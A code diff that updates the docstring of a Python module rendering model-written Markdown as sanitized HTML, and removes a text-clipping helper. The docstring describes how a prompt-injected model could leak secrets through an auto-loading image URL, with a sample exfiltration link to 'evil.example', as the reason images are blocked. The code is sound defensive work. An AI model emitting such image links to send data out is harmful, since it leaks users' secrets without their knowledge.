@@ -1,4 +1,5 @@
-"""Model-written Markdown as HTML that is safe to put in a page.
+"""Model-written Markdown as HTML that is safe to put in a page: the live view's finished
+replies and the static transcript a cell keeps (:mod:`.transcript`).
 
 Three steps, each for its own reason: ``sanitize_markdown`` first, so HTML the model wrote
 that is not allowed shows as the text it is (``<script>`` is visible, not silently dropped,
@@ -7,10 +8,10 @@ through, since what is left of it is allowed); nh3 then cleans the HTML mistune 
 which is the step that guarantees safety whatever the first two did (event handlers,
 ``javascript:`` URLs, unknown tags).
 
-One more rule than the exports: no ``<img>`` from model or tool HTML. An image loads by
+One more rule than the notebook and Markdown exports: no ``<img>`` from model or tool HTML. An image loads by
 itself, so a prompt-injected model could leak data in its URL
 (``![](https://evil.example/?q=<secret>)``) without a click; a Markdown image is shown as a
-link instead, and the only images in the view are PNGs validated by :mod:`.media`.
+link instead, and the only images on the page are PNGs validated by :mod:`.media`.
 """
 
 from __future__ import annotations
@@ -58,10 +59,3 @@ def markdown_html(text: str) -> str:
     rendered = _renderer()(sanitize_markdown(text))
     assert isinstance(rendered, str)  # the "html" renderer returns text, not tokens
     return clean_html(rendered).strip()
-
-
-def clip(text: str, limit: int) -> tuple[str, int]:
-    """The first ``limit`` characters of ``text`` and how many were left out."""
-    if len(text) <= limit:
-        return text, 0
-    return text[:limit], len(text) - limit
